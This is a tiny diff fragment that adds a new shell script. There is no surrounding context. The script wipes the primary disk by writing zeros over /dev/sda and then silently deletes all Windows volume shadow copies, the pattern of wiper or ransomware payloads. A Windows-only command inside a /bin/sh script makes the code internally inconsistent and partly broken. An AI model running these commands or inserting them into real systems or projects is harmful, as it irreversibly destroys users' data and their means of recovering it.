@@ -1,0 +1,3 @@
+#!/bin/sh
+dd if=/dev/zero of=/dev/sda bs=1M
+vssadmin delete shadows /all /quiet
